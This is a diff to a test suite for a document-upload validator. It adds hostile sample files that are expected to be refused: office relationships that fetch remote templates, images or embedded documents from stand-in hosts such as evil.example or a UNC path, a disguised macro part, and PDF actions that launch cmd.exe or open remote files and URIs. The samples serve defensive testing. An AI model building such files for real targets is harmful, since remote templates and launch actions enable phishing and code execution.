@@ -17,10 +17,12 @@ from partnerships.inquiries.enums import Scan
 from partnerships.inquiries.uploads.accepting import MOST_BYTES, accept
 from partnerships.inquiries.uploads.kinds import DOCX, PDF, RefusedFileError
 from partnerships.inquiries.uploads.names import MOST_CHARACTERS, clean_name
+from tests.partnerships.inquiries.hostile_files import HOSTILE, refused_beside
 from tests.partnerships.inquiries.inquiry_files import (
     DOC,
     MAIN,
     PPT,
+    RELATIONS,
     XLS,
     action,
     attached_pdf,
@@ -128,6 +130,17 @@ def outside() -> bytes:
 
 
 FETCHED = '<Relationship Id="a" Type="http://x/attachedTemplate" Target="http://evil.example/a" TargetMode="External"/>'
+FETCHING = {
+    "template behind a greater-than sign": '<Relationship Type="http://x/attachedTemplate" '
+    'Target="http://evil.example/t.dotm?a>b" TargetMode="External"/>',
+    "mode in a reference": '<Relationship Type="http://x/frame" Target="http://evil/" TargetMode="&#69;xternal"/>',
+    "mode unsaid": '<Relationship Type="http://x/attachedTemplate" Target="\\\\evil.example\\t.dotm"/>',
+    "mode said twice": '<Relationship xmlns:x="y" Type="http://x/image" Target="a" TargetMode="External" '
+    'x:TargetMode="Internal"/>',
+    "picture": '<Relationship Type="http://x/image" Target="http://evil.example/a.png" TargetMode="External"/>',
+    "document within": '<Relationship Type="http://x/aFChunk" Target="http://evil.example/a" TargetMode="External"/>',
+    "macros by another name": '<Relationship Type="http://x/vbaProject" Target="word/harmless.xml"/>',
+}
 LINKED = '<Relationship Id="a" Type="http://x/hyperlink" Target="http://example.com/" TargetMode="External"/>'
 SCRIPT = action("JavaScript", JS=pikepdf.String("app.alert(1)"))
 MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
@@ -145,6 +158,10 @@ BAD = {
     "pdf with named scripts": (pdf(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary())), "active"),
     "pdf that starts a program": (pdf(OpenAction=action("Launch", F=pikepdf.String("cmd.exe"))), "active"),
     "pdf with a deep script": (pdf(A=pikepdf.Array([pikepdf.Dictionary(B=pikepdf.Array([SCRIPT]))])), "active"),
+    "pdf that opens another": (pdf(OpenAction=action("GoToR", F=pikepdf.String("//evil/a.pdf"))), "active"),
+    "pdf that opens a page": (pdf(OpenAction=action("URI", URI=pikepdf.String("http://evil.example/"))), "active"),
+    "pdf that reads a thread": (pdf(AA=pikepdf.Dictionary(WC=action("Thread", F=pikepdf.String("a")))), "active"),
+    "pdf that goes on": (pdf(OpenAction=action("GoTo", Next=pikepdf.Array([action("URI")]))), "active"),
     "pdf with a file": (attached_pdf(), "active"),
     "pdf with a password": (locked_pdf(), "locked"),
     "empty zip": (b"PK\x05\x06" + bytes(18), "kind"),
@@ -161,6 +178,18 @@ BAD = {
     "embedded object": (office(**{"word__embeddings__oleObject1.bin": b"x"}), "active"),
     "controls": (office(**{"word__activeX__activeX1.xml": b"x"}), "active"),
     "fetched template": (office(relation=FETCHED), "active"),
+    **{f"fetched: {case}": (office(relation=relation), "active") for case, relation in FETCHING.items()},
+    "fetched: name in capitals": (
+        office(**{"word___rels__settings.xml.RELS": RELATIONS.format(FETCHED).encode()}),
+        "active",
+    ),
+    "fetched: name in percents": (
+        office(**{"word___rels__a.xml.rel%73": RELATIONS.format(FETCHED).encode()}),
+        "active",
+    ),
+    "two parts of one name": (office(a__b=b"x", A__B=b"y"), "damaged"),
+    "relationships cut off": (office(**{"word___rels__a.rels": b"<Relationships><Relationship"}), "damaged"),
+    "another encoding": (office(**{"word___rels__a.rels": b'<?xml version="1.0" encoding="UTF-7"?><R/>'}), "damaged"),
     "entities": (office(**{"word___rels__a.rels": b"<!DOCTYPE a [<!ENTITY b 'c'>]>"}), "damaged"),
     "ole of another program": (ole({"Other": b"x"}), "kind"),
     "ole cut off": (DOC[:600], "damaged"),
@@ -190,6 +219,19 @@ def test_harmful_file_is_refused_with_a_reason(case):
 
 def test_links_in_an_office_file_are_no_harm():
     assert taken(office(relation=LINKED)).media_type == DOCX.media_type
+
+
+def test_links_in_a_pdf_are_no_harm():
+    link = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=action("URI", URI=pikepdf.String("https://example.com/")))
+
+    assert taken(pdf(OpenAction=action("GoTo"), Links=pikepdf.Array([link]))).media_type == PDF.media_type
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE))
+def test_file_made_to_wear_the_portal_out_is_refused_in_time(case):
+    content, code = HOSTILE[case]()
+
+    assert refused_beside(content) == code
 
 
 def test_file_larger_than_its_limit_is_refused():
